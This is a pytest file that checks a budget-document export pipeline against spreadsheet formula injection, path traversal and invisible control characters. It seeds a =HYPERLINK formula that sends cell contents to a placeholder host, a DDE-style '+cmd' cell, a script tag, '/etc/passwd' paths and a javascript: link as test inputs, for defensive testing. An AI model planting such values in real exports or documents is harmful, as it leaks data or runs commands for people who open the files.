"""A hostile document goes through workbook, package and CSV: nothing is a formula, nothing leaves its folder, every text stays text.

Two ways: a PDF typeset with hostile cells is read and exported; and a ledger seeded with what no font prints (control characters,
marks that turn the reading direction, 10,000 characters) is exported.
"""

from __future__ import annotations

import csv
import json
import re
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow.parquet as parquet
import pytest
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "unit"))
import exports  # noqa: E402

from gouji.fields.store import guarded  # noqa: E402
from gouji.publish.exports import ARCHIVE, PACKAGE, WORKBOOK, make_exports  # noqa: E402

NAME = """a'q"b<i>&=1.pdf"""
LINK = '=HYPERLINK("http://x.invalid/?"&A1,"look")'
CELLS = {  # label printed in the fact file → what stands there instead
    "二、外交支出": LINK, "二、政府性基金预算财政拨款收入": "+cmd!A0", "三、国防支出": "@SUM(1+1)",
    "四、上级补助收入": "-2+3", "五、事业收入": "<script>alert(1)</script>", "六、经营收入": "＝1+1", "七、附属单位上缴收入": "../../etc/passwd",
}  # fmt: skip
AMOUNT = ("使用非财政拨款结余 | 28 | 0.00", "使用非财政拨款结余 | 28 | =1+1")
TURNED, RUNG, LONG = "甲\u202e乙\u2066丙\u200f", "铃\x07\x00\x1b[31m响", "长" * 10_000
SEEDED = (TURNED, RUNG, LONG, "\t=1+1", "\r=1+1", "a\n=1+1", "'=1+1", "x;=1+1", "=1+1\u202e", "\x07=1+1", "http://x.invalid", "mailto:a@x.invalid", "file:///etc/passwd")
RUNS = re.compile(r"[=+\-@＝＋－＠\t\r]")
HARMLESS = re.compile(r"[+\-＋－][\d,.]*%?|[-－]+")  # a signed number, a dash
UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def hostile(text: str) -> str:
    for old, new in (*CELLS.items(), AMOUNT):
        assert old in text
        text = text.replace(old, new)
    return text.replace("entity: 沁阳市政务服务和大数据管理局", "entity: =沁阳市政务服务和大数据管理局")


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """(folder of the project, opened study) whose document, file name and manifest are hostile; exports made."""
    folder = tmp_path_factory.mktemp("hostile")
    corpus = folder / "data/raw/demo"
    corpus.mkdir(parents=True)
    exports.short(corpus, "a", hostile).rename(corpus / NAME)
    row = {"file": NAME, "entity": LINK, "year": 2021, "kind": "final", "title": f"{LINK}{TURNED}", "source": f"@SUM(1){RUNG}", "licence": "[x](javascript:alert(1)) CC BY 4.0", "note": f"={LONG}"}
    opened = exports.opened(folder, row, parameters="outputs: [ledger, findings, workbook, package]\n")
    return folder, opened


@pytest.fixture(scope="module")
def printed(project):
    """The folder with the exports of the document as it was read."""
    made = make_exports(project[1], project[1].folder, {}, "key", lambda text: None)
    assert made == {"workbook": "key", "package": "key"}
    return project[1].folder


@pytest.fixture(scope="module")
def seeded(project, tmp_path_factory):
    """The folder with the exports of a ledger and findings in which every text a document gives is hostile."""
    from dataclasses import replace

    folder = tmp_path_factory.mktemp("seeded")
    opened = replace(project[1], folder=folder)
    ledger, findings, tables = (getattr(project[1], t).copy() for t in ("ledger", "findings", "tables"))
    for number, text in enumerate(SEEDED):
        ledger.loc[ledger.index[number], ["row_label", "printed", "reason"]] = text
        findings.loc[findings.index[number], ["zh", "en", "row", "printed"]] = text
        findings.loc[findings.index[number], "where"] = json.dumps([{"address": text, "page": 1, "bbox": [1, 2, 3, 4], "row": text, "column": text, "printed": text, "sentence": text}])
        findings.loc[findings.index[number], "outcome"] = "mismatch"
    tables.loc[tables.index[0], ["title", "note"]] = LINK
    opened.__dict__.update(ledger=ledger, findings=findings, tables=tables, documents=project[1].documents, problems=project[1].problems, pages=project[1].pages, claims=project[1].claims)
    opened.__dict__["document"] = project[1].document  # what was read, for the indices
    make_exports(opened, folder, {}, "key", lambda text: None)
    return folder


BOTH = pytest.mark.parametrize("which", ["printed", "seeded"])


@BOTH
def test_no_cell_of_the_workbook_is_a_formula_or_leads_outside(which, request):
    folder = request.getfixturevalue(which)
    with zipfile.ZipFile(folder / WORKBOOK) as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8")
            assert "<f>" not in text and "<f " not in text, name
            assert 'TargetMode="External"' not in text and "externalLink" not in name and "vba" not in name.lower(), name
            assert not UNSEEN.search(text), name
    book = openpyxl.load_workbook(folder / WORKBOOK)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f" or (c.hyperlink and (c.hyperlink.target or not c.hyperlink.location.startswith("'")))]
    begun = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "＝"))]
    assert begun and all(c.quotePrefix for c in begun)
    assert all(len(str(c.value)) <= 32_767 for c in cells)


@BOTH
def test_no_field_of_any_csv_runs(which, request):
    folder = request.getfixturevalue(which)
    files = [*folder.glob("*.csv"), *folder.glob("package/data/*.csv")]
    assert len(files) >= 9
    for file in files:
        with file.open(encoding="utf-8", newline="") as lines:
            for row in csv.reader(lines):
                for field in row:
                    assert not RUNS.match(field) or HARMLESS.fullmatch(field), (file.name, field[:60])
                    assert file.parent == folder or not UNSEEN.search(field), (file.name, field[:60])


def test_text_stays_as_it_was_where_nothing_can_run(seeded):
    texts = parquet.read_table(seeded / PACKAGE / "data/ledger.parquet")["printed"].to_pylist()
    assert set(SEEDED) <= set(texts)
    ledger = pd.read_csv(seeded / PACKAGE / "data/ledger.csv", dtype=str, keep_default_na=False)
    assert LONG in set(ledger["printed"]) and "甲乙丙" in set(ledger["printed"]) and "'=1+1" in set(ledger["printed"])


def test_what_was_printed_is_told_as_text(printed):
    sheet = pd.read_excel(printed / WORKBOOK, sheet_name="FA01", dtype=str)
    assert set(CELLS.values()) <= set(sheet["项目 row as printed"])
    assert "=1+1（未读作数 not read as a number）" in set(sheet["amount (元)"])
    long = pd.read_excel(printed / WORKBOOK, sheet_name="method")["English"].str.len().max()
    assert long > 10_000


@BOTH
def test_nothing_leaves_its_folder(which, request, project):
    folder = request.getfixturevalue(which)
    ours = {WORKBOOK, PACKAGE, ARCHIVE}
    assert ours <= {p.name for p in folder.iterdir()}
    for file in (folder / PACKAGE).rglob("*"):
        assert re.fullmatch(r"[A-Za-z0-9._-]+", file.name) and not file.is_symlink()
    with zipfile.ZipFile(folder / ARCHIVE) as archive:
        assert all(re.fullmatch(r"package/([a-z]+/)?[A-Za-z0-9._-]+", n) and ".." not in n for n in archive.namelist())
    top = project[0]
    assert {p.name for p in top.iterdir()} <= {"data", "notebooks", "studies"} and {p.name for p in (top / "data").iterdir()} == {"raw", "processed"}


@BOTH
def test_descriptions_stay_readable(which, request):
    package = request.getfixturevalue(which) / PACKAGE
    assert json.loads((package / "datapackage.json").read_text("utf-8"))["sources"][0]["title"].startswith("=HYPERLINK")
    assert yaml.safe_load((package / "CITATION.cff").read_text("utf-8"))["type"] == "dataset"
    licence = (package / "LICENSE.md").read_text("utf-8")
    assert "\\[x\\]\\(javascript" in licence and not UNSEEN.search(licence)
    assert json.loads((package / "ro-crate-metadata.json").read_text("utf-8"))["@graph"]


@BOTH
def test_it_is_still_a_valid_package(which, request):
    frictionless = pytest.importorskip("frictionless")
    report = frictionless.validate(str(request.getfixturevalue(which) / PACKAGE / "datapackage.json"))
    assert report.valid, report.flatten(["title", "rowNumber", "fieldName", "message"])[:5]


@pytest.mark.parametrize("name", ["../x.pdf", "a/b.pdf", "..", "/etc/passwd"])
def test_a_manifest_that_names_a_file_elsewhere_is_refused(name, tmp_path):
    from gouji.errors import StudyInvalid

    with pytest.raises(StudyInvalid, match="not a plain file name"):
        exports.opened(tmp_path, {"file": name, "entity": "x"})


@pytest.mark.parametrize(("text", "kept"), [
    ("=1", "'=1"), ("＝1", "'＝1"), ("@a", "'@a"), ("+a", "'+a"), ("-a", "'-a"), ("\t=1", "'\t=1"), ("'=1", "''=1"),
    ("-1,234.50", "-1,234.50"), ("+3%", "+3%"), ("－", "－"), ("—", "—"), ("—=1", "—=1"), ("一、收入", "一、收入"), (str(Decimal("-0.01")), "-0.01"),
])  # fmt: skip
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text, kept):
    assert guarded(text) == kept


def test_the_test_sees_a_formula(tmp_path):
    """The checks above find what they look for."""
    import xlsxwriter

    with xlsxwriter.Workbook(tmp_path / "w.xlsx") as book:
        page = book.add_worksheet()
        page.write("A1", "=1+1")
        page.write_url("A2", "http://x.invalid")
    with zipfile.ZipFile(tmp_path / "w.xlsx") as book:
        whole = "".join(book.read(n).decode() for n in book.namelist())
    assert "<f>" in whole and 'TargetMode="External"' in whole
    assert RUNS.match("=1") and not HARMLESS.fullmatch("-1+1") and UNSEEN.search(TURNED)
